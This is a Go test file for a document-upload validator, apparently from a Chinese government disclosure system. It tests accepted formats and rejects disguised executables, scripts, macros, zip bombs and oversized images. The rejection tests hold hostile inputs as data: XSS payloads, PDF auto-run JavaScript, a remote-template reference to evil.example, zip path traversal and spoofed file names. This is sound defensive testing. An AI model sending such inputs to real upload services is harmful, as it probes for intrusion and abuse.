package upload

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"hash/crc32"
	"image"
	"image/gif"
	"image/jpeg"
	"image/png"
	"strings"
	"testing"
	"unicode/utf16"

	"golang.org/x/text/encoding/simplifiedchinese"

	"gongkai/fault"
)

// pack makes a ZIP archive of parts: name, content, name, content …
func pack(t testing.TB, parts ...string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := 0; i < len(parts); i += 2 {
		w, err := z.Create(parts[i])
		if err == nil {
			_, err = w.Write([]byte(parts[i+1]))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func docx(t testing.TB, more ...string) []byte {
	return pack(t, append([]string{"[Content_Types].xml", "<Types/>", "word/document.xml", "<w:document/>"}, more...)...)
}

func wide(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return string(b) + "\x00\x00"
}

func oleFile(names ...string) []byte {
	s := "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 504)
	for _, n := range names {
		s += wide(n)
	}
	return []byte(s)
}

func pictures(t testing.TB) map[string][]byte {
	t.Helper()
	m := image.NewGray(image.Rect(0, 0, 8, 8))
	var j, p, g bytes.Buffer
	for _, err := range []error{jpeg.Encode(&j, m, nil), png.Encode(&p, m), gif.Encode(&g, m, nil)} {
		if err != nil {
			t.Fatal(err)
		}
	}
	return map[string][]byte{"jpeg": j.Bytes(), "png": p.Bytes(), "gif": g.Bytes(), "tiff": tiffFile(binary.LittleEndian, 8, 8)}
}

func tiffFile(order binary.AppendByteOrder, width, height uint32) []byte {
	b := []byte("II*\x00")
	if order.String() == "BigEndian" {
		b = []byte("MM\x00*")
	}
	b = order.AppendUint32(b, 8)
	b = order.AppendUint16(b, 2)
	for i, v := range []uint32{width, height} {
		b = order.AppendUint16(b, uint16(256+i))
		b = order.AppendUint16(b, 4)
		b = order.AppendUint32(b, 1)
		b = order.AppendUint32(b, v)
	}
	return b
}

// hugePNG says that it is very large; only its head is there.
func hugePNG(side uint32) []byte {
	head := binary.BigEndian.AppendUint32([]byte("IHDR"), side)
	head = append(binary.BigEndian.AppendUint32(head, side), 1, 0, 0, 0, 0)
	b := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0d"), head...)
	return binary.BigEndian.AppendUint32(b, crc32.ChecksumIEEE(head))
}

func gbk(t testing.TB, s string) []byte {
	t.Helper()
	b, err := simplifiedchinese.GB18030.NewEncoder().Bytes([]byte(s))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestWhatIsTaken(t *testing.T) {
	pic := pictures(t)
	for _, c := range []struct {
		name, file string
		data       []byte
		kind       string
	}{
		{"PDF", "答复.pdf", []byte("%PDF-1.7\n%%EOF"), "pdf"},
		{"the extension in capitals", "答复.PDF", []byte("%PDF-1.7\n%%EOF"), "pdf"},
		{"OFD", "答复.ofd", pack(t, "OFD.xml", "<ofd:OFD/>"), "ofd"},
		{"DOCX", "说明.docx", docx(t), "docx"},
		{"DOCX with a table behind a chart", "说明.docx", docx(t, "word/embeddings/chart.xlsx", string(pack(t, "[Content_Types].xml", "<Types/>", "xl/workbook.xml", ""))), "docx"},
		{"XLSX", "台账.xlsx", pack(t, "[Content_Types].xml", "<Types/>", "xl/workbook.xml", ""), "xlsx"},
		{"PPTX", "汇报.pptx", pack(t, "[Content_Types].xml", "<Types/>", "ppt/presentation.xml", ""), "pptx"},
		{"DOC", "旧.doc", oleFile("WordDocument"), "doc"},
		{"WPS", "旧.wps", oleFile("WordDocument"), "doc"},
		{"XLS", "旧.xls", oleFile("Workbook"), "xls"},
		{"PPT", "旧.ppt", oleFile("PowerPoint Document"), "ppt"},
		{"JPEG", "照片.jpg", pic["jpeg"], "jpeg"},
		{"PNG", "截图.png", pic["png"], "png"},
		{"GIF", "图.gif", pic["gif"], "gif"},
		{"TIFF", "扫描.tif", pic["tiff"], "tiff"},
		{"TIFF of the other order", "扫描.tiff", tiffFile(binary.BigEndian, 100, 100), "tiff"},
		{"text", "说明.txt", []byte("关于申请内容的说明：大于 3 < 5。\r\n"), "text"},
		{"text in GBK", "说明.txt", gbk(t, "关于申请内容的说明"), "text"},
		{"CSV", "表.csv", []byte("\ufeff编号,名称\n1,许可\n"), "csv"},
	} {
		f, err := Rules{}.Judge(c.file, c.data)
		if err != nil || f.Kind.Key != c.kind {
			t.Errorf("%s: %q %v", c.name, f.Kind.Key, err)
		}
	}
	f, err := Rules{Zip: true}.Judge("材料.zip", pack(t, "说明/说明.txt", "说明", "a.pdf", "%PDF-1.4", "内/更内.zip", string(pack(t, "b.txt", "b"))))
	if err != nil || f.Kind.Key != "zip" {
		t.Errorf("an archive of what is taken: %v", err)
	}
}

func TestWhatIsRefused(t *testing.T) {
	var r Rules
	with := Rules{Zip: true}
	deep := pack(t, "a.txt", "a")
	for range deepest + 1 {
		deep = pack(t, "a.zip", string(deep))
	}
	zeros := strings.Repeat("\x00", 20<<20)
	for _, c := range []struct {
		name, file string
		data       []byte
		rules      Rules
		want       string
	}{
		{"nothing", "a.pdf", nil, r, "空的"},
		{"too large", "a.txt", bytes.Repeat([]byte("a"), 30), Rules{Size: 29}, "上限"},
		{"a program", "a.exe", []byte("MZ\x90\x00"), r, "程序"},
		{"a program named PDF", "a.pdf", []byte("MZ\x90\x00"), r, "程序"},
		{"ELF", "a.txt", []byte("\x7fELF\x02"), r, "程序"},
		{"a script", "a.txt", []byte("#!/bin/sh\n"), r, "脚本"},
		{"a shortcut", "a.txt", []byte("L\x00\x00\x00\x01\x14\x02\x00\x00"), r, "快捷方式"},
		{"an extension that is not taken", "a.js", []byte("alert(1)"), r, "不接收"},
		{"two extensions", "答复.pdf.exe", []byte("%PDF-1.7"), r, "不接收"},
		{"no extension", "答复", []byte("%PDF-1.7"), r, "没有扩展名"},
		{"HTML", "a.html", []byte("<html>"), r, "不接收"},
		{"HTML named text", "a.txt", []byte("\ufeff \n<!DOCTYPE html><script>alert(1)</script>"), r, "网页"},
		{"HTML further down", "a.csv", []byte("a,b\n<script>alert(1)</script>"), r, "网页代码"},
		{"HTML far down", "a.txt", []byte(strings.Repeat("说明\n", 40_000) + "<script>alert(1)</script>"), r, "网页代码"},
		{"a picture that fetches", "a.txt", []byte("a <IMG src=x onerror=alert(1)>"), r, "网页代码"},
		{"a page with its pictures (MHTML)", "a.txt", []byte("From: a\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related\r\n"), r, "网页代码"},
		{"a page in the head of a PDF", "a.pdf", []byte("%PDF-1.7\n<html><script>alert(1)</script>"), r, "网页代码"},
		{"SVG", "a.svg", []byte("<svg onload='alert(1)'/>"), r, "不接收"},
		{"SVG named PNG", "a.png", []byte("<svg onload='alert(1)'/>"), r, "SVG"},
		{"PDF named JPEG", "a.jpg", []byte("%PDF-1.7"), r, "按内容却是"},
		{"DOCX named PDF", "a.pdf", docx(t), r, "按内容却是"},
		{"a script in a PDF", "a.pdf", []byte("%PDF-1.7 /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), r, "自动运行"},
		{"macros", "a.docx", docx(t, "word/vbaProject.bin", "x"), r, "宏"},
		{"macros as the types say", "a.docx", pack(t, "[Content_Types].xml", `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`, "word/document.xml", ""), r, "宏"},
		{"macros in a part of a part", "a.docx", docx(t, "word/embeddings/a.xlsm", string(pack(t, "[Content_Types].xml", "<Types/>", "xl/workbook.xml", "", "xl/vbaProject.bin", "x"))), r, "宏"},
		{"macros in an old document", "a.doc", oleFile("WordDocument", "_VBA_PROJECT"), r, "宏"},
		{"the extension of macros", "a.docm", docx(t), r, "不接收"},
		{"a template from elsewhere", "a.docx", docx(t, "word/_rels/settings.xml.rels", `<Relationship Type="…/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`), r, "模板"},
		{"encrypted", "a.doc", oleFile("EncryptedPackage"), r, "密码"},
		{"another OLE file", "a.doc", oleFile("Root Entry"), r, "不认识"},
		{"an archive where none is taken", "a.zip", pack(t, "a.txt", "a"), r, "不接收"},
		{"an archive named DOCX", "a.docx", pack(t, "a.txt", "a"), r, "压缩包"},
		{"an archive named DOCX where archives are taken", "a.docx", pack(t, "a.txt", "a"), with, "按内容却是"},
		{"a program in an archive", "a.zip", pack(t, "a.txt", "a", "b/c.exe", "MZ"), with, "程序"},
		{"a page in an archive", "a.zip", pack(t, "a.html", "<html>"), with, "不接收"},
		{"a path upwards", "a.zip", pack(t, "../../a.txt", "a"), with, "路径"},
		{"too deep", "a.zip", deep, with, "层数太多"},
		{"a bomb", "a.docx", docx(t, "word/media/image1.bin", zeros), r, "异常地大"},
		{"a broken archive", "a.docx", docx(t)[:60], r, "损坏"},
		{"a broken picture", "a.png", []byte("\x89PNG\r\n\x1a\nx"), r, "损坏"},
		{"a picture as large as a field", "a.png", hugePNG(50_000), r, "尺寸"},
		{"TIFF as large", "a.tif", tiffFile(binary.LittleEndian, 1<<31, 1<<31), r, "尺寸"},
		{"TIFF without its directory", "a.tif", []byte("II*\x00\xff\xff\xff\xff"), r, "损坏"},
		{"binary named text", "a.txt", []byte("a\x00b\x01"), r, "认不出"},
		{"neither UTF-8 nor GBK", "a.txt", []byte("\xff\xff\xfe\x00"), r, "认不出"},
		{"RTF", "a.doc", []byte(`{\rtf1`), r, "RTF"},
		{"RAR", "a.zip", []byte("Rar!\x1a\x07"), with, "RAR"},
	} {
		_, err := c.rules.Judge(c.file, c.data)
		if fault.KindOf(err) != fault.Invalid || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %v, want %q", c.name, err, c.want)
		}
	}
}

func TestEntriesThatShareTheirBytes(t *testing.T) {
	one := pack(t, "word/document.xml", strings.Repeat("ab", 5000))
	end := bytes.LastIndex(one, []byte("PK\x05\x06"))
	dir := bytes.Index(one, []byte("PK\x01\x02"))
	entry := one[dir:end]
	var b bytes.Buffer
	b.Write(one[:dir])
	const copies = 200
	for range copies {
		b.Write(entry)
	}
	tail := bytes.Clone(one[end:])
	binary.LittleEndian.PutUint16(tail[8:], copies)
	binary.LittleEndian.PutUint16(tail[10:], copies)
	binary.LittleEndian.PutUint32(tail[12:], uint32(copies*len(entry)))
	b.Write(tail)
	data := b.Bytes()
	_, err := Rules{}.Judge("a.docx", data)
	if fault.KindOf(err) != fault.Invalid {
		t.Errorf("%v", err)
	}
}

func TestCleanName(t *testing.T) {
	for raw, want := range map[string]string{
		"答复书.pdf":                          "答复书.pdf",
		`C:\Users\li\答复书.pdf`:              "答复书.pdf",
		"../../etc/passwd":                 "passwd",
		"a\u202efdp.exe":                   "afdp.exe",
		"a\x00b\r\n.pdf":                   "ab.pdf",
		"  .hidden.pdf ":                   "hidden.pdf",
		"":                                 "附件",
		"...":                              "附件",
		".pdf":                             "附件.pdf",
		"con.txt":                          "_con.txt",
		`a"b<c>|d?.pdf`:                    "a_b_c__d_.pdf",
		"\xff\xfe.pdf":                     "附件.pdf",
		"第一条. 关于公开的说明":                     "第一条. 关于公开的说明",
		strings.Repeat("长", 300) + ".docx": strings.Repeat("长", 95) + ".docx",
		"e\u0301.pdf":                      "é.pdf",
		"零\u200b宽.pdf":                     "零宽.pdf",
	} {
		if got := CleanName(raw); got != want {
			t.Errorf("%q: %q, want %q", raw, got, want)
		}
	}
}

func FuzzJudge(f *testing.F) {
	f.Add("a.docx", docx(f))
	f.Add("a.zip", pack(f, "a.zip", string(pack(f, "b.txt", "b"))))
	f.Add("a.tif", tiffFile(binary.BigEndian, 3, 3))
	f.Add("a.png", hugePNG(3))
	f.Add("a.doc", oleFile("WordDocument"))
	f.Add("a.txt", []byte("说明"))
	f.Fuzz(func(t *testing.T, name string, data []byte) {
		got, err := Rules{Zip: true, Size: 1 << 20}.Judge(name, data)
		if err != nil {
			if fault.KindOf(err) != fault.Invalid {
				t.Fatalf("no sentence for people: %v", err)
			}
			return
		}
		if got.Name != CleanName(got.Name) || strings.ContainsAny(got.Name, "/\\\x00\r\n\u202e") || len([]rune(got.Name)) > longestName {
			t.Fatalf("the name is not clean: %q", got.Name)
		}
		if bytes.HasPrefix(data, []byte("MZ")) || bytes.HasPrefix(data, []byte("<")) {
			t.Fatal("a program or a page is taken")
		}
	})
}
